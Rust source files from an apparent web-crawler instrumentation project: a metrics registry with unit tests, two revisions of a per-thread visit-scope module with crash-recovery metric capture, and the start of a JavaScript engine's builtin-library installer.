        self.counters.write().unwrap().entry(interned).or_default().clone()
    }

    /// [`Registry::histogram`] by string name; see [`Registry::counter_by_name`].
    pub fn histogram_by_name(&self, name: &str) -> Arc<Histogram> {
        if let Some(h) = self.histograms.read().unwrap().get(name) {
            return h.clone();
        }
        let interned: &'static str = Box::leak(name.to_string().into_boxed_str());
        self.histograms.write().unwrap().entry(interned).or_default().clone()
    }

    pub fn add(&self, name: &'static str, delta: u64) {
        self.counter(name).add(delta);
    }

    pub fn gauge_set(&self, name: &'static str, v: i64) {
        self.gauge(name).store(v, Ordering::Relaxed);
    }

    pub fn observe(&self, name: &'static str, v: u64) {
        self.histogram(name).observe(v);
    }

    /// Record a completed wall-clock phase timing.
    pub fn record_timing(&self, name: &str, d: Duration) {
        self.timings.lock().unwrap().push((name.to_string(), d));
    }

    pub fn timings(&self) -> Vec<(String, Duration)> {
        self.timings.lock().unwrap().clone()
    }

    /// Freeze the deterministic metrics into an ordered snapshot.
    pub fn snapshot(&self) -> Snapshot {
        let counters = self
            .counters
            .read()
            .unwrap()
            .iter()
            .map(|(k, v)| (k.to_string(), v.sum()))
            .filter(|(_, v)| *v > 0)
            .collect();
        let gauges = self
            .gauges
            .read()
            .unwrap()
            .iter()
            .map(|(k, v)| (k.to_string(), v.load(Ordering::Relaxed)))
            .collect();
        let histograms = self
            .histograms
            .read()
            .unwrap()
            .iter()
            .map(|(k, v)| (k.to_string(), v.snapshot()))
            .filter(|(_, h)| h.count > 0)
            .collect();
        Snapshot { counters, gauges, histograms }
    }

    /// Zero every metric and drop recorded timings — run boundaries (and
    /// tests comparing two runs in one process) call this between runs.
    pub fn reset(&self) {
        for c in self.counters.read().unwrap().values() {
            c.reset();
        }
        for g in self.gauges.read().unwrap().values() {
            g.store(0, Ordering::Relaxed);
        }
        for h in self.histograms.read().unwrap().values() {
            h.reset();
        }
        self.timings.lock().unwrap().clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bucket_boundaries() {
        assert_eq!(bucket_of(0), 0);
        assert_eq!(bucket_of(1), 1);
        assert_eq!(bucket_of(2), 2);
        assert_eq!(bucket_of(3), 2);
        assert_eq!(bucket_of(4), 3);
        assert_eq!(bucket_of(1023), 10);
        assert_eq!(bucket_of(1024), 11);
        assert_eq!(bucket_of(u64::MAX), 64);
    }

    #[test]
    fn counters_accumulate_and_snapshot_ordered() {
        let r = Registry::new();
        r.add("b.two", 2);
        r.add("a.one", 1);
        r.add("b.two", 3);
        let snap = r.snapshot();
        assert_eq!(snap.counter("a.one"), 1);
        assert_eq!(snap.counter("b.two"), 5);
        let render = snap.render();
        let a = render.find("a.one").unwrap();
        let b = render.find("b.two").unwrap();
        assert!(a < b, "snapshot must render in name order");
    }

    #[test]
    fn histogram_observes_and_means() {
        let r = Registry::new();
        r.observe("h", 0);
        r.observe("h", 1);
        r.observe("h", 1000);
        let snap = r.snapshot();
        let h = &snap.histograms["h"];
        assert_eq!(h.count, 3);
        assert_eq!(h.sum, 1001);
        assert_eq!(h.buckets, vec![(0, 1), (1, 1), (10, 1)]);
        assert!((h.mean() - 1001.0 / 3.0).abs() < 1e-9);
    }

    #[test]
    fn digest_is_stable_and_sensitive() {
        let r = Registry::new();
        r.add("x", 7);
        let d1 = r.snapshot().digest();
        assert_eq!(d1, r.snapshot().digest());
        r.add("x", 1);
        assert_ne!(d1, r.snapshot().digest());
    }

    #[test]
    fn concurrent_updates_sum_exactly() {
        let r = Arc::new(Registry::new());
        std::thread::scope(|s| {
            for _ in 0..8 {
                let r = r.clone();
                s.spawn(move || {
                    let c = r.counter("spam");
                    for _ in 0..10_000 {
                        c.add(1);
                    }
                });
            }
        });
        assert_eq!(r.snapshot().counter("spam"), 80_000);
    }

    #[test]
    fn sharded_counter_folds_across_threads() {
        // More threads than stripes: every stripe gets reused, and the
        // fold must still be exact.
        let c = ShardedCounter::default();
        std::thread::scope(|s| {
            for _ in 0..(COUNTER_STRIPES + 5) {
                s.spawn(|| {
                    for _ in 0..1_000 {
                        c.add(3);
                    }
                });
            }
        });
        assert_eq!(c.sum(), 3_000 * (COUNTER_STRIPES as u64 + 5));
        c.reset();
        assert_eq!(c.sum(), 0);
    }

    #[test]
    fn counter_handle_survives_reset() {
        let r = Registry::new();
        let c = r.counter("persist");
        c.add(4);
        r.reset();
        c.add(2);
        assert_eq!(r.snapshot().counter("persist"), 2);
    }

    #[test]
    fn quantile_from_log_buckets() {
        let r = Registry::new();
        for v in [0u64, 1, 1, 3, 100, 100, 100, 100, 100, 1000] {
            r.observe("q", v);
        }
        let snap = r.snapshot();
        let h = &snap.histograms["q"];
        // p10 ≈ the single zero; p50 lands in the [64,128) bucket that
        // holds the 100s; p100 in [512,1024).
        assert_eq!(h.quantile(0.0), 0);
        assert_eq!(h.quantile(0.1), 0);
        assert_eq!(h.quantile(0.5), 96);
        assert_eq!(h.quantile(1.0), 768);
        assert_eq!(HistogramSnapshot::default().quantile(0.5), 0);
    }

    #[test]
    fn sched_metrics_excluded_from_digest_but_rendered() {
        let r = Registry::new();
        r.add("records.js_calls", 3);
        let before = r.snapshot().digest();
        r.add("sched.steal", 12);
        r.add("sched.chunk.claimed", 40);
        r.add("sched.idle_spins", 7);
        r.observe("sched.visit_wall_us", 900);
        let snap = r.snapshot();
        assert_eq!(before, snap.digest(), "sched.* must not perturb the digest");
        assert!(snap.render().contains("sched.steal 12"));
        assert!(snap.render().contains("histogram sched.visit_wall_us"));
        assert!(!snap.render_deterministic().contains("sched."));
    }

    #[test]
    fn prof_metrics_excluded_from_digest_but_rendered() {
        let r = Registry::new();
        r.add("records.js_calls", 3);
        let before = r.snapshot().digest();
        r.add("prof.self.visit", 1_200);
        r.add("prof.builtin.getTime", 4);
        r.observe("prof.visit_us", 1_500);
        r.observe("prof.jsengine.interp_us", 300);
        let snap = r.snapshot();
        assert_eq!(before, snap.digest(), "prof.* must not perturb the digest");
        assert!(snap.render().contains("prof.self.visit 1200"));
        assert!(snap.render().contains("histogram prof.visit_us"));
        assert!(!snap.render_deterministic().contains("prof."));
    }

    #[test]
    fn reset_clears_everything() {
        let r = Registry::new();
        r.add("c", 5);
        r.gauge_set("g", -2);
        r.observe("h", 9);
        r.record_timing("phase", Duration::from_millis(3));
        r.reset();
        let snap = r.snapshot();
        assert!(snap.counters.is_empty());
        assert_eq!(snap.gauges.get("g"), Some(&0));
        assert!(snap.histograms.is_empty());
        assert!(r.timings().is_empty());
    }

    #[test]
    fn timings_excluded_from_digest() {
        let r = Registry::new();
        r.add("c", 1);
        let before = r.snapshot().digest();
        r.record_timing("scan", Duration::from_secs(1));
        assert_eq!(before, r.snapshot().digest());
    }

    #[test]
    fn cache_metrics_excluded_from_digest_but_rendered() {
        let r = Registry::new();
        r.add("records.js_calls", 3);
        let before = r.snapshot().digest();
        r.add("cache.compile.hit", 7);
        r.add("cache.compile.miss", 2);
        r.add("cache.compile.bytes", 4096);
        let snap = r.snapshot();
        assert_eq!(before, snap.digest(), "cache.* must not perturb the digest");
        assert!(snap.render().contains("cache.compile.hit 7"));
        assert!(!snap.render_deterministic().contains("cache."));
        assert!(snap.render_deterministic().contains("records.js_calls 3"));
    }

    #[test]
    fn crash_and_checkpoint_metrics_excluded_from_digest_but_rendered() {
        let r = Registry::new();
        r.add("records.js_calls", 3);
        let before = r.snapshot().digest();
        r.add("crash.resume", 1);
        r.add("crash.tail_dropped", 2);
        r.add("crash.revisits", 5);
        r.add("checkpoint.writes", 120);
        r.add("checkpoint.replays", 115);
        r.add("checkpoint.lines_dropped", 1);
        let snap = r.snapshot();
        assert_eq!(before, snap.digest(), "crash./checkpoint. must not perturb the digest");
        assert!(snap.render().contains("crash.revisits 5"));
        assert!(snap.render().contains("checkpoint.writes 120"));
        assert!(!snap.render_deterministic().contains("crash."));
        assert!(!snap.render_deterministic().contains("checkpoint."));
    }

    #[test]
    fn by_name_handles_alias_literal_keyed_metrics() {
        let r = Registry::new();
        r.add("aliased.counter", 3);
        let dynamic = String::from("aliased.") + "counter";
        r.counter_by_name(&dynamic).add(4);
        assert_eq!(r.snapshot().counter("aliased.counter"), 7);
        let hname = String::from("aliased.") + "hist";
        r.histogram_by_name(&hname).observe(9);
        r.observe("aliased.hist", 9);
        assert_eq!(r.snapshot().histograms["aliased.hist"].count, 2);
    }

    #[test]
    fn archive_metrics_excluded_from_digest_but_rendered() {
        let r = Registry::new();
        r.add("records.js_calls", 3);
        let before = r.snapshot().digest();
        r.add("archive.write.entries", 200);
        r.add("archive.write.blobs", 41);
        r.add("archive.dedup.hits", 159);
        let snap = r.snapshot();
        assert_eq!(before, snap.digest(), "archive.* must not perturb the digest");
        assert!(snap.render().contains("archive.dedup.hits 159"));
        assert!(!snap.render_deterministic().contains("archive."));
    }
}
