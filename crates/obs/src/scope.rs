//! Per-thread visit scopes.
//!
//! Journal determinism across worker counts hinges on one rule: worker
//! threads never write to the journal directly. The supervisor opens a
//! *scope* on the worker thread before processing an item; every event and
//! span emitted while the scope is active is buffered here (thread-local,
//! no locks), stamped on the scope's simulated clock. When the item
//! finishes, the supervisor closes the scope, carries the buffered events
//! back through the ordered results of `run_parallel`, and the coordinator
//! writes them to the journal in item order. Which OS thread ran which item
//! becomes invisible.

use crate::event::{Event, SpanMark};
use std::cell::RefCell;

struct ScopeState {
    events: Vec<Event>,
    clock_ms: u64,
    span_stack: Vec<u32>,
    next_span: u32,
}

thread_local! {
    static SCOPE: RefCell<Option<ScopeState>> = const { RefCell::new(None) };
}

/// Open a visit scope on the current thread, discarding any previous one.
pub fn begin_scope() {
    SCOPE.with(|s| {
        *s.borrow_mut() = Some(ScopeState {
            events: Vec::new(),
            clock_ms: 0,
            span_stack: Vec::new(),
            next_span: 1,
        })
    });
}

/// Close the current thread's scope and return its buffered events
/// (empty if no scope was active). Unclosed spans are closed implicitly,
/// innermost first, so journals always balance.
pub fn end_scope() -> Vec<Event> {
    SCOPE.with(|s| {
        let Some(mut st) = s.borrow_mut().take() else {
            return Vec::new();
        };
        while let Some(id) = st.span_stack.pop() {
            st.events.push(Event {
                t_ms: st.clock_ms,
                ev: "span_close",
                span: Some(SpanMark::Close { id }),
                attrs: Vec::new(),
            });
        }
        st.events
    })
}

pub fn scope_active() -> bool {
    SCOPE.with(|s| s.borrow().is_some())
}

/// Advance the scope's simulated clock (no-op without an active scope).
pub fn clock_advance(ms: u64) {
    SCOPE.with(|s| {
        if let Some(st) = s.borrow_mut().as_mut() {
            st.clock_ms += ms;
        }
    });
}

pub fn clock_ms() -> u64 {
    SCOPE.with(|s| s.borrow().as_ref().map(|st| st.clock_ms).unwrap_or(0))
}

/// Buffer an event in the active scope, stamping it with the scope clock.
/// Returns the event back if no scope is active (caller may re-route it to
/// the crawl scope).
pub(crate) fn push_event(mut ev: Event) -> Option<Event> {
    SCOPE.with(|s| {
        let mut b = s.borrow_mut();
        match b.as_mut() {
            Some(st) => {
                ev.t_ms = st.clock_ms;
                st.events.push(ev);
                None
            }
            None => Some(ev),
        }
    })
}

/// Open a span in the active scope; `None` when no scope is active.
pub(crate) fn scope_span_open(name: &'static str) -> Option<u32> {
    SCOPE.with(|s| {
        let mut b = s.borrow_mut();
        let st = b.as_mut()?;
        let id = st.next_span;
        st.next_span += 1;
        let parent = st.span_stack.last().copied().unwrap_or(0);
        let t = st.clock_ms;
        st.events.push(
            Event {
                t_ms: t,
                ev: "span_open",
                span: Some(SpanMark::Open { id, parent }),
                attrs: Vec::new(),
            }
            .attr("name", name),
        );
        st.span_stack.push(id);
        Some(id)
    })
}

/// Close a scope span. Any spans opened after it (and not yet closed) are
/// closed first so the stack stays balanced even if guards drop out of
/// order.
pub(crate) fn scope_span_close(id: u32) {
    SCOPE.with(|s| {
        let mut b = s.borrow_mut();
        let Some(st) = b.as_mut() else { return };
        if !st.span_stack.contains(&id) {
            return;
        }
        while let Some(top) = st.span_stack.pop() {
            st.events.push(Event {
                t_ms: st.clock_ms,
                ev: "span_close",
                span: Some(SpanMark::Close { id: top }),
                attrs: Vec::new(),
            });
            if top == id {
                break;
            }
        }
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn events_buffer_in_order_with_clock() {
        begin_scope();
        assert!(push_event(Event::new(0, "a")).is_none());
        clock_advance(10);
        assert!(push_event(Event::new(0, "b")).is_none());
        let evs = end_scope();
        assert_eq!(evs.len(), 2);
        assert_eq!((evs[0].ev, evs[0].t_ms), ("a", 0));
        assert_eq!((evs[1].ev, evs[1].t_ms), ("b", 10));
        assert!(!scope_active());
    }

    #[test]
    fn events_outside_scope_are_returned() {
        assert!(!scope_active());
        assert!(push_event(Event::new(0, "x")).is_some());
    }

    #[test]
    fn spans_nest_and_balance() {
        begin_scope();
        let a = scope_span_open("outer").unwrap();
        let b = scope_span_open("inner").unwrap();
        scope_span_close(b);
        scope_span_close(a);
        let evs = end_scope();
        assert_eq!(evs.len(), 4);
        assert_eq!(evs[0].span, Some(SpanMark::Open { id: a, parent: 0 }));
        assert_eq!(evs[1].span, Some(SpanMark::Open { id: b, parent: a }));
        assert_eq!(evs[2].span, Some(SpanMark::Close { id: b }));
        assert_eq!(evs[3].span, Some(SpanMark::Close { id: a }));
    }

    #[test]
    fn end_scope_closes_dangling_spans() {
        begin_scope();
        let a = scope_span_open("outer").unwrap();
        let b = scope_span_open("inner").unwrap();
        let evs = end_scope();
        assert_eq!(evs[2].span, Some(SpanMark::Close { id: b }));
        assert_eq!(evs[3].span, Some(SpanMark::Close { id: a }));
    }

    #[test]
    fn out_of_order_close_still_balances() {
        begin_scope();
        let a = scope_span_open("outer").unwrap();
        let _b = scope_span_open("inner").unwrap();
        scope_span_close(a); // closes inner first, then outer
        let evs = end_scope();
        assert_eq!(evs.len(), 4);
        assert!(matches!(evs[2].span, Some(SpanMark::Close { .. })));
        assert_eq!(evs[3].span, Some(SpanMark::Close { id: a }));
    }
}
