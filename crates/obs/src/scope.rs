//! Per-thread visit scopes.
//!
//! Journal determinism across worker counts hinges on one rule: worker
//! threads never write to the journal directly. The supervisor opens a
//! *scope* on the worker thread before processing an item; every event and
//! span emitted while the scope is active is buffered here (thread-local,
//! no locks), stamped on the scope's simulated clock. When the item
//! finishes, the supervisor closes the scope, carries the buffered events
//! back through the ordered results of `run_parallel`, and the coordinator
//! writes them to the journal in item order. Which OS thread ran which item
//! becomes invisible.

use crate::event::{Event, SpanMark};
use std::cell::RefCell;
use std::sync::atomic::{AtomicBool, Ordering};

/// When set, every [`crate::add`] / [`crate::observe`] made inside an open
/// visit scope is *also* recorded into that scope's [`ScopeMetrics`] delta.
/// The crash-consistent streaming mode persists the delta alongside each
/// visit's checkpoint line so a resumed process can re-apply exactly the
/// metrics the lost process already counted. Off by default: one extra
/// relaxed load on the metric hot path buys zero cost for everyone else.
static SCOPE_METRICS: AtomicBool = AtomicBool::new(false);

/// Enable/disable per-scope metric delta capture.
pub fn set_scope_metrics(on: bool) {
    SCOPE_METRICS.store(on, Ordering::Relaxed);
}

#[inline]
pub fn scope_metrics_enabled() -> bool {
    SCOPE_METRICS.load(Ordering::Relaxed)
}

/// The metric updates one visit scope produced: summed counter deltas and
/// the individual histogram observations, in emission order. Counters and
/// observations are order-independent sums, so re-applying a delta on a
/// resumed run reconstructs the same registry state the crashed run had.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ScopeMetrics {
    /// `(counter name, summed delta)`, first-touch order.
    pub counters: Vec<(&'static str, u64)>,
    /// `(histogram name, value)` — one entry per observation so bucket
    /// shapes and sums restore exactly.
    pub observations: Vec<(&'static str, u64)>,
}

impl ScopeMetrics {
    pub fn is_empty(&self) -> bool {
        self.counters.is_empty() && self.observations.is_empty()
    }

    /// Compact single-line encoding: `c:name:value` / `o:name:value`
    /// entries joined by `;`. Metric names are dotted identifiers, so the
    /// separators never collide; the result contains no newline and no
    /// checkpoint separator bytes. Metrics under
    /// [`crate::NONDETERMINISTIC_PREFIXES`] are skipped — they are
    /// excluded from the telemetry digest, so restoring them would only
    /// falsify accounting the digest never sees.
    pub fn encode(&self) -> String {
        let deterministic = |name: &str| {
            !crate::NONDETERMINISTIC_PREFIXES.iter().any(|p| name.starts_with(p))
        };
        let mut out = String::new();
        for (name, v) in self.counters.iter().filter(|(n, _)| deterministic(n)) {
            if !out.is_empty() {
                out.push(';');
            }
            out.push_str(&format!("c:{name}:{v}"));
        }
        for (name, v) in self.observations.iter().filter(|(n, _)| deterministic(n)) {
            if !out.is_empty() {
                out.push(';');
            }
            out.push_str(&format!("o:{name}:{v}"));
        }
        out
    }
}

/// Parse a [`ScopeMetrics::encode`] string into owned
/// `(kind, name, value)` entries (`kind` is `'c'` or `'o'`). `None` on any
/// malformed entry — callers treat that as a damaged checkpoint field.
pub fn decode_scope_metrics(s: &str) -> Option<Vec<(char, String, u64)>> {
    if s.is_empty() {
        return Some(Vec::new());
    }
    let mut out = Vec::new();
    for entry in s.split(';') {
        let mut parts = entry.splitn(3, ':');
        let kind = match parts.next()? {
            "c" => 'c',
            "o" => 'o',
            _ => return None,
        };
        let name = parts.next()?;
        let value: u64 = parts.next()?.parse().ok()?;
        if name.is_empty() {
            return None;
        }
        out.push((kind, name.to_string(), value));
    }
    Some(out)
}

struct ScopeState {
    events: Vec<Event>,
    clock_ms: u64,
    span_stack: Vec<u32>,
    next_span: u32,
    metrics: Option<ScopeMetrics>,
}

thread_local! {
    static SCOPE: RefCell<Option<ScopeState>> = const { RefCell::new(None) };
}

/// Open a visit scope on the current thread, discarding any previous one.
pub fn begin_scope() {
    SCOPE.with(|s| {
        *s.borrow_mut() = Some(ScopeState {
            events: Vec::new(),
            clock_ms: 0,
            span_stack: Vec::new(),
            next_span: 1,
            metrics: scope_metrics_enabled().then(ScopeMetrics::default),
        })
    });
}

/// Take the active scope's captured metric delta (leaving it empty).
/// `None` when no scope is open or capture is off.
pub fn take_scope_metrics() -> Option<ScopeMetrics> {
    SCOPE.with(|s| s.borrow_mut().as_mut().and_then(|st| st.metrics.take()))
}

/// Record a counter bump into the active scope's delta (gated, no-op
/// when capture is off or no scope is open).
#[inline]
pub(crate) fn record_add(name: &'static str, delta: u64) {
    if !scope_metrics_enabled() {
        return;
    }
    SCOPE.with(|s| {
        if let Some(m) = s.borrow_mut().as_mut().and_then(|st| st.metrics.as_mut()) {
            match m.counters.iter_mut().find(|(n, _)| *n == name) {
                Some((_, v)) => *v += delta,
                None => m.counters.push((name, delta)),
            }
        }
    });
}

/// Record a histogram observation into the active scope's delta.
#[inline]
pub(crate) fn record_observe(name: &'static str, v: u64) {
    if !scope_metrics_enabled() {
        return;
    }
    SCOPE.with(|s| {
        if let Some(m) = s.borrow_mut().as_mut().and_then(|st| st.metrics.as_mut()) {
            m.observations.push((name, v));
        }
    });
}

/// Close the current thread's scope and return its buffered events
/// (empty if no scope was active). Unclosed spans are closed implicitly,
/// innermost first, so journals always balance.
pub fn end_scope() -> Vec<Event> {
    SCOPE.with(|s| {
        let Some(mut st) = s.borrow_mut().take() else {
            return Vec::new();
        };
        while let Some(id) = st.span_stack.pop() {
            st.events.push(Event {
                t_ms: st.clock_ms,
                ev: "span_close",
                span: Some(SpanMark::Close { id }),
                attrs: Vec::new(),
            });
        }
        st.events
    })
}

pub fn scope_active() -> bool {
    SCOPE.with(|s| s.borrow().is_some())
}

/// Advance the scope's simulated clock (no-op without an active scope).
pub fn clock_advance(ms: u64) {
    SCOPE.with(|s| {
        if let Some(st) = s.borrow_mut().as_mut() {
            st.clock_ms += ms;
        }
    });
}

pub fn clock_ms() -> u64 {
    SCOPE.with(|s| s.borrow().as_ref().map(|st| st.clock_ms).unwrap_or(0))
}

/// Buffer an event in the active scope, stamping it with the scope clock.
/// Returns the event back if no scope is active (caller may re-route it to
/// the crawl scope).
pub(crate) fn push_event(mut ev: Event) -> Option<Event> {
    SCOPE.with(|s| {
        let mut b = s.borrow_mut();
        match b.as_mut() {
            Some(st) => {
                ev.t_ms = st.clock_ms;
                st.events.push(ev);
                None
            }
            None => Some(ev),
        }
    })
}

/// Open a span in the active scope; `None` when no scope is active.
pub(crate) fn scope_span_open(name: &'static str) -> Option<u32> {
    SCOPE.with(|s| {
        let mut b = s.borrow_mut();
        let st = b.as_mut()?;
        let id = st.next_span;
        st.next_span += 1;
        let parent = st.span_stack.last().copied().unwrap_or(0);
        let t = st.clock_ms;
        st.events.push(
            Event {
                t_ms: t,
                ev: "span_open",
                span: Some(SpanMark::Open { id, parent }),
                attrs: Vec::new(),
            }
            .attr("name", name),
        );
        st.span_stack.push(id);
        Some(id)
    })
}

/// Close a scope span. Any spans opened after it (and not yet closed) are
/// closed first so the stack stays balanced even if guards drop out of
/// order.
pub(crate) fn scope_span_close(id: u32) {
    SCOPE.with(|s| {
        let mut b = s.borrow_mut();
        let Some(st) = b.as_mut() else { return };
        if !st.span_stack.contains(&id) {
            return;
        }
        while let Some(top) = st.span_stack.pop() {
            st.events.push(Event {
                t_ms: st.clock_ms,
                ev: "span_close",
                span: Some(SpanMark::Close { id: top }),
                attrs: Vec::new(),
            });
            if top == id {
                break;
            }
        }
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn events_buffer_in_order_with_clock() {
        begin_scope();
        assert!(push_event(Event::new(0, "a")).is_none());
        clock_advance(10);
        assert!(push_event(Event::new(0, "b")).is_none());
        let evs = end_scope();
        assert_eq!(evs.len(), 2);
        assert_eq!((evs[0].ev, evs[0].t_ms), ("a", 0));
        assert_eq!((evs[1].ev, evs[1].t_ms), ("b", 10));
        assert!(!scope_active());
    }

    #[test]
    fn events_outside_scope_are_returned() {
        assert!(!scope_active());
        assert!(push_event(Event::new(0, "x")).is_some());
    }

    #[test]
    fn spans_nest_and_balance() {
        begin_scope();
        let a = scope_span_open("outer").unwrap();
        let b = scope_span_open("inner").unwrap();
        scope_span_close(b);
        scope_span_close(a);
        let evs = end_scope();
        assert_eq!(evs.len(), 4);
        assert_eq!(evs[0].span, Some(SpanMark::Open { id: a, parent: 0 }));
        assert_eq!(evs[1].span, Some(SpanMark::Open { id: b, parent: a }));
        assert_eq!(evs[2].span, Some(SpanMark::Close { id: b }));
        assert_eq!(evs[3].span, Some(SpanMark::Close { id: a }));
    }

    #[test]
    fn end_scope_closes_dangling_spans() {
        begin_scope();
        let a = scope_span_open("outer").unwrap();
        let b = scope_span_open("inner").unwrap();
        let evs = end_scope();
        assert_eq!(evs[2].span, Some(SpanMark::Close { id: b }));
        assert_eq!(evs[3].span, Some(SpanMark::Close { id: a }));
    }

    #[test]
    fn scope_metrics_capture_encode_and_decode_roundtrip() {
        let _g = crate::TEST_LOCK.lock().unwrap_or_else(|e| e.into_inner());
        set_scope_metrics(true);
        begin_scope();
        record_add("supervisor.faults", 2);
        record_add("records.js_calls", 10);
        record_add("supervisor.faults", 1);
        record_observe("jsengine.ops_per_visit", 64);
        record_observe("jsengine.ops_per_visit", 64);
        record_add("cache.compile.hit", 9); // nondeterministic: dropped by encode
        let m = take_scope_metrics().expect("capture on");
        let _ = end_scope();
        set_scope_metrics(false);

        assert_eq!(m.counters.iter().find(|(n, _)| *n == "supervisor.faults"), Some(&("supervisor.faults", 3)));
        assert_eq!(m.observations.len(), 2);
        let enc = m.encode();
        assert!(!enc.contains("cache."), "{enc}");
        let dec = decode_scope_metrics(&enc).expect("decode");
        assert_eq!(dec.len(), 4, "{enc}");
        assert!(dec.contains(&('c', "supervisor.faults".to_string(), 3)));
        assert!(dec.contains(&('o', "jsengine.ops_per_visit".to_string(), 64)));

        assert_eq!(decode_scope_metrics("").unwrap(), Vec::new());
        assert!(decode_scope_metrics("x:bad:1").is_none());
        assert!(decode_scope_metrics("c:name").is_none());
        assert!(decode_scope_metrics("c::3").is_none());
        assert!(decode_scope_metrics("c:name:notanum").is_none());

        // With the gate back off, a fresh scope captures nothing.
        begin_scope();
        record_add("ignored", 1);
        assert!(take_scope_metrics().is_none(), "gate off: nothing captured");
        let _ = end_scope();
    }

    #[test]
    fn nested_prof_phases_keep_scope_deltas_deterministic() {
        // A visit scope captured while the phase profiler runs nested
        // guards must hold exactly the deterministic metrics: the prof.*
        // wall-clock counters/histograms the guards emit are excluded from
        // the encoded delta, while instrument counters recorded inside the
        // innermost phase still land in the delta.
        let _g = crate::TEST_LOCK.lock().unwrap_or_else(|e| e.into_inner());
        crate::reset();
        crate::set_stats(true);
        crate::prof::set_mode(crate::prof::Mode::On);
        set_scope_metrics(true);
        begin_scope();
        {
            let _visit = crate::prof::enter(&crate::prof::VISIT);
            crate::add("records.js_calls", 4);
            {
                let _js = crate::prof::enter(&crate::prof::JS_INTERP);
                crate::add("records.js_calls", 3);
                crate::observe("jsengine.ops_per_visit", 128);
            }
        }
        let m = take_scope_metrics().expect("capture on");
        let _ = end_scope();
        set_scope_metrics(false);
        crate::reset();

        // The raw delta saw the prof guards fire...
        assert!(
            m.counters.iter().any(|(n, _)| n.starts_with("prof.self.")),
            "prof guards should have recorded raw counters: {:?}",
            m.counters
        );
        // ...but the persisted encoding carries only deterministic state.
        let enc = m.encode();
        assert!(!enc.contains("prof."), "{enc}");
        let dec = decode_scope_metrics(&enc).expect("decode");
        assert!(dec.contains(&('c', "records.js_calls".to_string(), 7)), "{enc}");
        assert!(dec.contains(&('o', "jsengine.ops_per_visit".to_string(), 128)), "{enc}");
    }

    #[test]
    fn out_of_order_close_still_balances() {
        begin_scope();
        let a = scope_span_open("outer").unwrap();
        let _b = scope_span_open("inner").unwrap();
        scope_span_close(a); // closes inner first, then outer
        let evs = end_scope();
        assert_eq!(evs.len(), 4);
        assert!(matches!(evs[2].span, Some(SpanMark::Close { .. })));
        assert_eq!(evs[3].span, Some(SpanMark::Close { id: a }));
    }
}
