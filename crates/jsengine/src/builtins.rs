//! The standard library installed into every realm: `Object`, `Array`,
//! `Function.prototype`, `String.prototype`, `Error` constructors, `Math`,
//! `JSON.stringify`, `console`, `parseInt`/`parseFloat`, `eval` and friends.
//!
//! Only functionality exercised by the corpus (page scripts, detector
//! scripts, instrumentation wrappers and attack PoCs) is implemented —
//! the subset is documented per function.

use std::sync::Arc;

use crate::interp::{ErrorKind, Interp};
use crate::object::{Callable, ObjId, Property, Slot};
use crate::value::{number_to_string, Value};

/// Invoke a native function, recording the per-builtin dispatch count.
///
/// This is the one funnel for builtin dispatch — [`Interp::call`] routes
/// every `Callable::Native` through here for *both* execution backends, so
/// `GULLIBLE_PROF=collapsed` flamegraphs carry identical `builtin.<name>`
/// leaves whether the caller was the tree-walker or the bytecode VM.
pub(crate) fn dispatch_native(
    interp: &mut Interp,
    name: &Arc<str>,
    f: &crate::interp::NativeFn,
    this: Value,
    args: &[Value],
) -> Result<Value, crate::error::Thrown> {
    if let Some(p) = &mut interp.profiler {
        p.record_builtin(name);
    }
    f(interp, this, args)
}

/// Install all builtins onto the interpreter's intrinsics and global.
pub fn install(interp: &mut Interp) {
    install_function_proto(interp);
    install_object(interp);
    install_object_proto(interp);
    install_array(interp);
    install_string_proto(interp);
    install_number_proto(interp);
    install_errors(interp);
    install_math(interp);
    install_json(interp);
    install_misc_globals(interp);
}

/// Shorthand: define a native function as a non-enumerable data property.
fn method(interp: &mut Interp, target: ObjId, name: &str,
          f: impl Fn(&mut Interp, Value, &[Value]) -> Result<Value, crate::error::Thrown> + 'static) {
    let func = interp.alloc_native_fn(name, f);
    interp
        .heap
        .get_mut(target)
        .props
        .insert(Arc::from(name), Property::data_hidden(Value::Obj(func)));
}

fn arg(args: &[Value], i: usize) -> Value {
    args.get(i).cloned().unwrap_or(Value::Undefined)
}

// ------------------------------------------------------------------ Object

fn install_object(interp: &mut Interp) {
    let object_proto = interp.intrinsics.object_proto;
    let ctor = interp.alloc_native_fn("Object", move |it, _this, args| {
        Ok(match arg(args, 0) {
            Value::Obj(id) => Value::Obj(id),
            _ => Value::Obj(it.alloc_object()),
        })
    });
    interp
        .heap
        .get_mut(ctor)
        .props
        .insert(Arc::from("prototype"), Property::data_hidden(Value::Obj(object_proto)));
    interp
        .heap
        .get_mut(object_proto)
        .props
        .insert(Arc::from("constructor"), Property::data_hidden(Value::Obj(ctor)));

    method(interp, ctor, "keys", |it, _this, args| {
        let Some(id) = arg(args, 0).as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "Object.keys requires an object"));
        };
        let mut keys: Vec<Value> = Vec::new();
        if let Some(elems) = &it.heap.get(id).elements {
            for i in 0..elems.len() {
                keys.push(Value::str(i.to_string()));
            }
        }
        let own: Vec<Value> = it
            .heap
            .get(id)
            .props
            .iter()
            .filter(|(_, p)| p.enumerable)
            .map(|(k, _)| Value::Str(k.clone()))
            .collect();
        keys.extend(own);
        Ok(Value::Obj(it.alloc_array(keys)))
    });

    method(interp, ctor, "getOwnPropertyNames", |it, _this, args| {
        let Some(id) = arg(args, 0).as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "not an object"));
        };
        let mut keys: Vec<Value> = Vec::new();
        if let Some(elems) = &it.heap.get(id).elements {
            for i in 0..elems.len() {
                keys.push(Value::str(i.to_string()));
            }
            keys.push(Value::str("length"));
        }
        let own: Vec<Value> =
            it.heap.get(id).props.keys().map(|k| Value::Str(k.clone())).collect();
        keys.extend(own);
        Ok(Value::Obj(it.alloc_array(keys)))
    });

    method(interp, ctor, "getPrototypeOf", |it, _this, args| {
        let Some(id) = arg(args, 0).as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "not an object"));
        };
        Ok(match it.heap.get(id).proto {
            Some(p) => Value::Obj(p),
            None => Value::Null,
        })
    });

    method(interp, ctor, "setPrototypeOf", |it, _this, args| {
        let Some(id) = arg(args, 0).as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "not an object"));
        };
        it.heap.get_mut(id).proto = arg(args, 1).as_obj();
        Ok(arg(args, 0))
